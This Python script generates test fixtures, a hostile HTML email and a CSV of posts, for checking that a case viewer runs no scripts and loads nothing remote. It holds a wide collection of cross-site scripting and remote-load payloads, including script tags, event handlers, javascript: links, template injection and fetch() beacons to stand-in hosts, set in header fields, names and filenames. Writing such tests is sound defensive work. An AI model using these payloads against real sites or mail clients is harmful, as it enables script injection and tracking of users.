#!/usr/bin/env python3
"""Write hostile.eml and hostile-posts.csv in this folder: a made-up HTML
email and made-up posts that try every way we know of to run a script or
load something from another machine when the case is shown in a browser.

    python3 testdata/web/make.py

Everything is written out by hand below; the script exists because one
header is 64 KiB long and because CSV quoting of markup is easy to get
wrong by hand. Running it again writes the same bytes.
Every canary names one of three places: 203.0.113.7 (TEST-NET-3, never
routed), tracker.invalid (a name that cannot resolve) and
127.0.0.1:CANARY_PORT, which crates/cli/tests/browser.rs replaces with the
port of a listener it runs itself.
"""

import csv
import os

HERE = os.path.dirname(os.path.abspath(__file__))
LO = "http://127.0.0.1:CANARY_PORT"
NET = "http://203.0.113.7"
TRK = "http://tracker.invalid"

# Scripts that, if they ever ran, would show it in three ways: the page title,
# a request to the loopback canary, a request that leaves this machine.
PWN = f"document.title='PWNED';fetch('{LO}/SPOT');fetch('{NET}/beacon?SPOT');new Image().src='{TRK}/SPOT.gif'"


def pwn(spot):
    return PWN.replace("SPOT", spot)


long_unit = f"<script>{pwn('long-header')}</script><img src={TRK}/long.gif onerror=alert(9)> "
long_value = (long_unit * (65536 // len(long_unit) + 1))[:65536]

headers = [
    f"From: \"<script>{pwn('from-name')}</script> Mallory\" <mallory@hostile.invalid>",
    # An encoded word whose decoded text is markup: =?utf-8?Q?...?= decodes to <img src=x onerror=...>.
    "To: =?utf-8?Q?=3Cimg_src=3Dx_onerror=3D=22alert(5)=22=3E_Reporter?= <reporter@newsroom.invalid>",
    "Cc: \"javascript:alert(6)\" <cc@newsroom.invalid>",
    f"Subject: <script>{pwn('subject')}</script><img src=x onerror=alert(1)> hostilemail invoice",
    "Date: Thu, 06 Oct 2016 12:00:00 +0000",
    f"Message-ID: <\"><script>{pwn('message-id')}</script>@hostile.invalid>",
    f"X-Mailer: <svg onload=\"{pwn('mailer')}\">",
    f"Received: from <script>evil</script> ([203.0.113.7]) by mx.newsroom.invalid with <b>SMTP</b>; "
    "Thu, 06 Oct 2016 12:00:05 +0000",
    f"X-Hostile-Long: {long_value}",
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=\"HOSTILE-MIXED\"",
]

# multipart/mixed { multipart/alternative { text/plain, text/html }, text/html attachment }, as mail
# programs write it, except that the outer multipart is never closed.
alternative = """\
--HOSTILE-MIXED
Content-Type: multipart/alternative; boundary="HOSTILE-ALT"

"""

text_part = f"""\
--HOSTILE-ALT
Content-Type: text/plain; charset=utf-8

Plain part. hostilemail
<script>{pwn('text-part')}</script>
<img src="{TRK}/text-pixel.gif" onerror="alert(2)">
javascript:alert(3)
"""

html_part = f"""\
--HOSTILE-ALT
Content-Type: text/html; charset=utf-8

<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url={NET}/meta-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{TRK}/base/">
<link rel="stylesheet" href="{TRK}/style.css">
<link rel="prefetch" href="{NET}/prefetch">
<link rel="dns-prefetch" href="//tracker.invalid">
<link rel="preconnect" href="{NET}/">
<style>
@import url({TRK}/import.css);
@font-face {{ font-family: x; src: url({NET}/font.woff); }}
body {{ background: url({NET}/style-bg.png); font-family: x; }}
</style>
<script>{pwn('head-script')}</script>
<script src="{NET}/remote.js"></script>
<script src="{LO}/remote-loopback.js"></script>
</head>
<body onload="{pwn('body-onload')}" background="{NET}/body-background.png">
<h1>Invoice hostilemail</h1>
<p>Dear reporter, please review the attached invoice.</p>
<img src="{TRK}/pixel.gif" width="1" height="1">
<img src="{LO}/pixel-loopback.gif">
<img src="x" onerror="{pwn('img-onerror')}">
<img srcset="{NET}/srcset.png 1x, {TRK}/srcset2.png 2x">
<picture><source srcset="{NET}/picture.png"><img src="{TRK}/picture-fallback.png"></picture>
<a href="javascript:{pwn('js-link')}">click me (javascript: link)</a>
<a href="JaVaScRiPt:alert(4)">mixed-case javascript: link</a>
<a href="&#106;avascript:alert(4)">entity-encoded javascript: link</a>
<a href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;">data: link</a>
<a href="{NET}/phish">a plain remote link</a>
<div style="background-image:url({NET}/div-bg.png)">styled div</div>
<p style="background:url('{TRK}/p-bg.png')">styled paragraph</p>
<table background="{NET}/table-bg.png"><tr><td background="{TRK}/td-bg.png">cell</td></tr></table>
<iframe src="{NET}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;{pwn('srcdoc').replace("'", "&#39;")}&lt;/script&gt;"></iframe>
<object data="{NET}/object.swf"></object>
<embed src="{TRK}/embed.swf">
<video poster="{NET}/poster.png" src="{TRK}/video.mp4"></video>
<audio src="{NET}/audio.mp3" autoplay></audio>
<svg><image href="{NET}/svg-image.png"/><script>{pwn('svg-script')}</script></svg>
<svg onload="{pwn('svg-onload')}"></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert(8)">math</maction></math>
<form action="{NET}/form"><input type="image" src="{TRK}/input.png"><input name="q" value="x"></form>
<noscript><p title="</noscript><img src=x onerror=alert(10)>">noscript</p></noscript>
<details open ontoggle="{pwn('ontoggle')}"><summary>details</summary></details>
<marquee onstart="{pwn('marquee')}">marquee</marquee>
</body></html>
--HOSTILE-ALT--
"""

attachment = f"""\
--HOSTILE-MIXED
Content-Type: text/html; charset=utf-8; name="\\"><img src=x onerror=alert(11)>.html"
Content-Disposition: attachment; filename="\\"><img src=x onerror=alert(11)>.html"

<html><body><script>{pwn('attachment')}</script><img src="{NET}/attachment.gif"></body></html>
"""

# No closing "--HOSTILE-MIXED--": the message is cut off, as in a truncated dump.
body = alternative + text_part + html_part + attachment
message = "\r\n".join(headers) + "\r\n\r\n" + body.replace("\n", "\r\n")

with open(os.path.join(HERE, "hostile.eml"), "wb") as f:
    f.write(message.encode("utf-8"))

# Posts in the generic CSV layout, read with
#   --format csv --map id=post_id,author=user,author_name=display_name,time=created_at,text=body,urls=urls,repost_of=repost_of
# Four accounts whose keys are markup; each reposts the same two posts within ten minutes of the others,
# so `leaktrace clusters --network co-retweet --window 10m` links them and the network page draws them.
A = "<script>alert('acct')</script>"
B = '"><img src=x onerror=alert(2)>'
C = "javascript:alert(3)"
D = "hostile_demo'\"><svg onload=alert(4)>"
NAME_A = f"<script>{pwn('name-a')}</script>"
NAME_B = f'"><img src=x onerror="{pwn("name-b")}">'
NAME_D = f"</text><script>{pwn('name-d-svg')}</script><text>"
posts = [
    ("7001", A, NAME_A, "2016-10-06T12:00:00Z", f"hostilemarker <script>{pwn('post-script')}</script> #hostile @{B}",
     f"javascript:alert(document.domain)|{TRK}/clickme", ""),
    ("7002", B, NAME_B, "2016-10-06T12:01:00Z",
     f'hostilemarker "><img src=x onerror="{pwn("post-onerror")}"> \'><svg onload=alert(13)>',
     f"javascript:fetch('{LO}/url-field')|{NET}/landing", ""),
    ("7003", C, C, "2016-10-06T12:02:00Z",
     f'RT hostilemarker <a href="javascript:{pwn("post-js-link")}">javascript: link</a> javascript:alert(3)', "", "7001"),
    ("7004", D, NAME_D, "2016-10-06T12:03:00Z",
     f"RT hostilemarker </textarea></title></style></script><script>{pwn('post-breakout')}</script> "
     "{{constructor.constructor('alert(14)')()}}", "", "7001"),
    ("7005", C, C, "2016-10-06T12:04:00Z", f"RT hostilemarker <iframe src={NET}/post-frame></iframe>", "", "7002"),
    ("7006", D, NAME_D, "2016-10-06T12:05:00Z",
     f'RT hostilemarker <meta http-equiv=refresh content="0;url={NET}/post-refresh"> '
     f"<link rel=stylesheet href={LO}/post.css>", "", "7002"),
    ("7007", A, NAME_A, "2016-10-06T12:06:00Z",
     f"RT hostilemarker <style>body{{background:url({TRK}/post-bg.png)}}</style> <img src={TRK}/post-pixel.gif>",
     "", "7002"),
    ("7008", B, NAME_B, "2016-10-06T12:07:00Z", f"RT hostilemarker <svg><script>{pwn('post-svg')}</script></svg>", "",
     "7001"),
    ("7009", A, NAME_A, "2016-10-06T12:08:00Z", "RT hostilemarker <img src=x onerror=alert(15)>", "", "7001"),
    ("7010", B, NAME_B, "2016-10-06T12:09:00Z", f"RT hostilemarker <object data={NET}/post-object></object>", "",
     "7002"),
]

with open(os.path.join(HERE, "hostile-posts.csv"), "w", newline="", encoding="utf-8") as f:
    w = csv.writer(f, lineterminator="\n")
    w.writerow(["post_id", "user", "display_name", "created_at", "body", "urls", "repost_of"])
    w.writerows(posts)
